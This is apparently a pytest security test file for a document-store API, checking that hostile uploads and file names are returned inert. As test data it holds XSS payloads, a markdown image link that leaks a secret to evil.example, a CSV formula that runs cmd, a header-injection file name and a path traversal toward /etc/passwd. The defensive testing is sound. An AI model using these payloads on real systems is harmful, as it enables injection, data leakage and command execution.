"""Hostile words in titles, tags and file names come back as words; bytes come back as bytes, through a version only."""

import re
from typing import Any

import pytest
from fastapi import FastAPI

from kbcore.settings import load_settings
from tests.api_server import Api
from tests.security.test_routes_roles import ROWS

MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "![x](https://evil.example/?q=secret)",
    "[x](javascript:alert(1))",
    "\u202etxt.exe",
)
ACTIVE = {
    "page.html": b"<script>alert(1)</script>",
    "page.xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
    "picture.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "note.md": b"<script>alert(1)</script>",
    "data.json": b'{"a": "<script>alert(1)</script>"}',
    "data.csv": b"=cmd|' /C calc'!A0,1",
}


@pytest.fixture
def hr(api: Api) -> Api:
    api.person("lina")
    api.space("hr", lina="editor")
    return api


@pytest.mark.parametrize("hostile", MARKUP)
def test_markup_is_answered_as_json_and_nothing_else(hr: Api, hostile: str) -> None:
    lina = hr.person("lina")
    made = hr.upload(lina, "hr", b"text", title=hostile, tags=hostile.replace(",", ""), metadata='{"a": "<b>"}')
    for path in (f"/v1/documents/{made['document_id']}", "/v1/documents", "/v1/ledger", f"/v1/jobs/{made['job_id']}"):
        answer = lina.get(path)
        assert answer.headers["content-type"] == "application/json"
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'" in answer.headers["content-security-policy"]
    assert lina.get(f"/v1/documents/{made['document_id']}").json()["title"] == hostile


@pytest.mark.parametrize("name", ACTIVE)
def test_active_content_comes_back_as_an_attachment_that_nothing_runs(hr: Api, name: str) -> None:
    made = hr.upload(hr.person("lina"), "hr", ACTIVE[name], file_name=name)
    content = hr.person("lina").get(f"/v1/documents/{made['document_id']}/versions/1/content")
    assert content.content == ACTIVE[name]
    assert content.headers["content-type"].partition(";")[0] in ("application/octet-stream", "text/plain")
    assert content.headers["content-disposition"].startswith("attachment;")
    assert content.headers["x-content-type-options"] == "nosniff"
    policy = content.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy


@pytest.mark.parametrize("name", ["a\r\nx-evil: 1.txt", 'a";filename=b.html', "../../etc/passwd.txt", "a\u202egpj.txt"])
def test_a_file_name_adds_no_header_and_no_path(hr: Api, name: str) -> None:
    files = {"file": (name, b"text")}
    answer = hr.person("lina").post("/v1/documents", data={"space": "hr"}, files=files)
    if answer.status_code == 422:
        return  # nothing of the name was left
    document = answer.raise_for_status().json()["document_id"]
    content = hr.person("lina").get(f"/v1/documents/{document}/versions/1/content")
    assert "x-evil" not in content.headers
    assert re.fullmatch(r"attachment; filename\*=UTF-8''[A-Za-z0-9%._~-]+", content.headers["content-disposition"])
    assert "%2F" not in content.headers["content-disposition"]


def test_no_request_names_an_object_of_the_blob_store(served_api: tuple[str, FastAPI]) -> None:
    """Bytes are found through a version that the caller may read; hashes, keys and paths are taken from nobody."""
    _, app = served_api
    suspicious = re.compile(
        r"(sha|hash|blob|object|bucket|path|file_?name|url|signature|expires|collection|filter)", re.I
    )
    named = [
        f"{method} {path} {parameter['name']}"
        for path, methods in app.openapi()["paths"].items()
        for method, operation in methods.items()
        for parameter in operation.get("parameters", [])
        if suspicious.search(parameter["name"]) and not path.startswith("/scim/")  # SCIM's filter is over people
    ]
    assert not named
    assert [row.route for row in ROWS if ":path" in row.route] == ["GET /v1/models/{model_id:path}"]


def test_no_route_redirects_or_signs_links(served_api: tuple[str, FastAPI]) -> None:
    _, app = served_api
    for path, methods in app.openapi()["paths"].items():
        for method, operation in methods.items():
            moved = [status for status in operation["responses"] if status.startswith("3")]
            assert not moved, f"{method} {path}"


@pytest.mark.parametrize("name", ["database", "redis", "milvus", "blobs", "erasure", "audit", "llm"])
def test_no_setting_has_a_secret_by_default(name: str) -> None:
    def secrets(value: Any, at: str) -> list[str]:
        if hasattr(value, "get_secret_value"):
            return [at] if value.get_secret_value() else []
        fields = getattr(type(value), "model_fields", {})
        return [found for each in fields for found in secrets(getattr(value, each), f"{at}.{each}")]

    settings = load_settings({})
    assert secrets(getattr(settings, name), name) == []
